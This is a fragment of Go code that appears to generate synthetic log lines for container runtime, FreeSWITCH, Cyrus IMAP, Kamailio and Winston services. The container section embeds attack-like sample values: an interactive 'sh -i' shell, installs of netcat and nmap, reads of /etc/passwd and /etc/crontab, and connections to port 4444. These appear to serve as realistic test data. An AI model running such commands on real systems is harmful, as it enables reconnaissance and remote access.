	case "x10xcid":
		if r.IntN(4) == 0 {
			return "host", true
		}
		return g.hexN(12), true
	case "x10ximage":
		return g.pick("<NA>", "docker.io/library/nginx", "ghcr.io/acme/orders", "docker.io/library/alpine", "quay.io/prometheus/node-exporter", "docker.io/bitnami/redis"), true
	case "x10xcname":
		return g.pick("host", "k8s_orders_orders-7d9f8b6c5d-x2k4p_prod", "nginx", "redis-master-0", "eager_morse"), true
	case "x10xetc":
		return g.pick("/etc/passwd", "/etc/resolv.conf", "/etc/ufw/ufw.conf", "/etc/postfix/main.cf.tmp", "/etc/hosts", "/etc/crontab"), true
	case "x10xcinfo":
		return g.pick("container=host (id=host)", "k8s.ns="+g.value("ns")+" k8s.pod="+g.value("pod")+" container="+g.hexN(12), "container_id="+g.hexN(12)+" container_name="+g.value("x10xcname")), true
	case "x10xshell":
		return g.pick("bash", "sh -i", "/bin/sh -c ls", "bash -il", "ash"), true
	case "x10xpkg":
		return g.pick("apt-get install -y curl", "apk add --no-cache netcat-openbsd", "yum install -y nmap", "pip install requests", "dpkg -i /tmp/x.deb"), true
	case "x10xtag":
		return g.pick("latest", "1.27.3", "v2.4.1", "3.19", "7.2.4-debian-12-r9"), true
	case "x10xconn":
		return g.value("ip") + ":" + g.value("port") + "->" + g.pick("10.96.0.1:443", "10.96.0.1:443", g.value("ip")+":"+g.pick("4444", "443", "80")), true

	// FreeSWITCH
	case "x10vchan":
		g.h10[2] = "sofia/" + g.pick("internal", "internal", "external", "main") + "/" + g.pick("1000", "1001", "1002", "79739980", "sipp", "+4930"+strconv.Itoa(1000000+r.IntN(8999999))) +
			g.pick("@"+g.value("ip"), "@"+g.value("ip")+":"+g.pick("5060", "56580", "15119"), "@pbx.example.com:5060", "")
		return g.h10[2], true
	case "x10vchansame":
		return g.h10[2], true
	case "x10vcs": // a channel state; the next (x10vcsto) follows
		c := channelStates[r.IntN(len(channelStates))]
		g.h10[3] = c[1]
		return c[0], true
	case "x10vcsto":
		return g.h10[3], true
	case "x10vcall": // a call state; the next (x10vcallto) follows
		c := callStates[r.IntN(len(callStates))]
		g.h10[3] = c[1]
		return c[0], true
	case "x10vcallto":
		return g.h10[3], true
	case "x10vport":
		return strconv.Itoa(16384 + 2*r.IntN(8000)), true
	case "x10vcallid":
		return g.pick(g.b62(22), g.value("uuid"), fmt.Sprintf("%d-%d@%s", r.IntN(9999), r.IntN(99999), g.value("ip")), g.alnum(20)+".."), true
	case "x10vext":
		return g.pick("1000", "1001", "1002", "100", "admin", "2001", "test"), true

	// Cyrus IMAP
	case "x10yhost":
		return g.pick("localhost", "frontend1.internal", "webmail.example.edu", "unknown", "c-73-15-2-9.hsd1.example.net"), true
	case "x10yuser":
		return g.pick(users...) + g.pick("", "", "@example.edu"), true
	case "x10ysess":
		return fmt.Sprintf("%s-%d-%d-%d-%d", g.pick("imap1", "sloti24t04", "cyrus"), 1000+r.IntN(4000000), 1733000000+r.IntN(900000), 1+r.IntN(9), r.Uint64()>>1), true
	case "x10yclientid":
		return g.pick(`"name" "iPad Mail" "version" "15A5304i" "os" "iOS" "os-version" "17.1 (21B74)"`, `"name" "Thunderbird" "version" "128.5.0"`,
			`"name" "Roundcube Webmail" "version" "1.6.9"`, `"name" "K-9 Mail" "version" "6.802"`), true
	case "x10ysecs":
		return fmt.Sprintf("%d.%06d", r.IntN(3), r.IntN(1000000)), true
	case "x10ymsgid":
		return fmt.Sprintf("%s@%s", g.hexN(16), g.pick("mail.gmail.com", "example.edu", "lists.example.org", "eu-west-1.amazonses.com")), true
	case "x10ymbox":
		return g.pick("user."+g.pick(users...), "user."+g.pick(users...)+".Sent", "user."+g.pick(users...)+".Junk", "example.edu!user."+g.pick(users...), "shared.helpdesk"), true
	case "x10yage":
		return strconv.FormatFloat(r.Float64()*3600, 'f', 3, 64), true
	case "x10ymail":
		return g.pick(users...) + "@example.edu", true

	// Kamailio
	case "x10kerr": // an errno's text; its number (x10kerrno) follows
		e := errnos10[r.IntN(len(errnos10))]
		g.h10[0] = e[0]
		return e[1], true
	case "x10kerrno":
		return g.h10[0], true
	case "x10kerrno2": // an errno; its text (x10kerr2) follows
		e := errnos10[r.IntN(len(errnos10))]
		g.h10[0] = e[1]
		return e[0], true
	case "x10kerr2":
		return g.h10[0], true
	case "x10kptr":
		return fmt.Sprintf("0x%x", 0x7f0000000000+r.Int64N(0xffffffffff)), true
	case "x10kcseq":
		return strconv.Itoa(1 + r.IntN(40000)), true
	case "x10kcallid":
		return g.pick(g.value("uuid"), g.hexN(32)+"@"+g.value("ip"), g.b62(22)), true
	case "x10kruri":
		return "sip:" + g.pick("001010000000002", "alice", "1001", "+49301234567") + "@" + g.value("ip") + ":" + g.pick("5060", "6600", "6700", "5080"), true
	case "x10kcode": // a SIP reply's code; its reason phrase (x10kphrase) follows
		c := g.pick("408 Request Timeout", "408 Request Timeout", "503 Service Unavailable", "404 Not Found", "480 Temporarily Unavailable")
		g.h10[1] = c[4:]
		return c[:3], true
	case "x10kphrase":
		return g.h10[1], true
	case "x10vcodec": // a codec; its rate, samples and bits (x10vrate, x10vsamples, x10vbits) follow
		c := g.pick("PCMU 8000 160 64000", "PCMU 8000 160 64000", "PCMA 8000 160 64000", "opus 48000 960 0", "G722 8000 320 64000", "G729 8000 160 8000")
		f := strings.Fields(c)
		g.h10[1], g.h10[2], g.h10[3] = f[1], f[2], f[3]
		return f[0], true
	case "x10vrate":
		return g.h10[1], true
	case "x10vsamples":
		return g.h10[2], true
	case "x10vbits":
		return g.h10[3], true
	case "x10kfd":
		return fmt.Sprintf("%x", 10+r.IntN(200)), true

	// Winston
	case "x10wsvc":
		return g.pick("orders-api", "orders-api", "user-service", "notifier"), true
	case "x10wts":
		return fmt.Sprintf("2026-12-%02dT%02d:%02d:%02d.%03dZ", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000)), true
	case "x10wmorgan": // morgan's combined line, with its newline, as a JSON string's content
		return jsonEsc(fmt.Sprintf(`::ffff:%s - %s [%s] "%s %s HTTP/1.1" %s %s "%s" "%s"`, g.value("ip"), g.value("optuser"), g.pick("03/Dec/2026:10:14:07 +0000", "04/Dec/2026:22:01:55 +0000"),
			g.value("method"), g.value("x10wurl"), g.value("x10wstatus"), g.pick("-", strconv.Itoa(r.IntN(90000))), g.value("referer"), g.value("agent"))) + `\n`, true
	case "x10wmoney":
		return fmt.Sprintf("%d.%02d", r.IntN(900), r.IntN(100)), true
	case "x10wkey":
		return g.pick("user:", "session:", "product:", "cart:") + strconv.Itoa(r.IntN(99999)), true
	case "x10wquery":
		return jsonEsc(g.value("sql")), true
	case "x10werr": // an error's message; its stack (x10wstack) starts with it
		g.h10[0] = jsonEsc(g.pick("connect ECONNREFUSED 127.0.0.1:5432", "Request failed with status code 503", "Cannot read properties of undefined (reading 'id')",
			"getaddrinfo ENOTFOUND payments.internal", "timeout of 5000ms exceeded", `duplicate key value violates unique constraint "users_email_key"`, "jwt expired"))
		return g.h10[0], true
	case "x10wstack":
		return g.pick("Error: ", "Error: ", "TypeError: ") + g.h10[0] + `\n    at ` + g.pick("TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)", "Timeout._onTimeout (/srv/app/node_modules/axios/lib/adapters/http.js:633:16)", "process.processTicksAndRejections (node:internal/process/task_queues:95:5)") + `\n    at ` +
			g.pick("OrderService.create (/srv/app/src/services/order.js:"+strconv.Itoa(10+r.IntN(200))+":"+strconv.Itoa(5+r.IntN(30))+")", "async /srv/app/src/routes/orders.js:"+strconv.Itoa(10+r.IntN(200))+":"+strconv.Itoa(5+r.IntN(30))), true
	case "x10wurl":
		return g.pick("/api/orders", "/api/orders/"+strconv.Itoa(r.IntN(99999)), "/health", "/api/users/me", "/api/cart/items?limit="+strconv.Itoa(r.IntN(50)), "/static/main."+g.hexN(8)+".js"), true
	case "x10wstatus":
		return g.pick("200", "200", "200", "201", "204", "304", "400", "401", "404", "500"), true
	case "x10wjob":
		return g.pick("send-welcome-email", "generate-report", "sync-inventory", "export-csv", "cleanup-sessions"), true
	case "x10wuser":
		return g.pick(users...) + "@example.com", true
	case "x10wdsn":
		return g.pick("mongodb://mongo-0.mongo:27017/orders", "postgres://orders@db:5432/orders", "redis://cache:6379/0", "localhost:27017"), true
	}
	return "", false
}
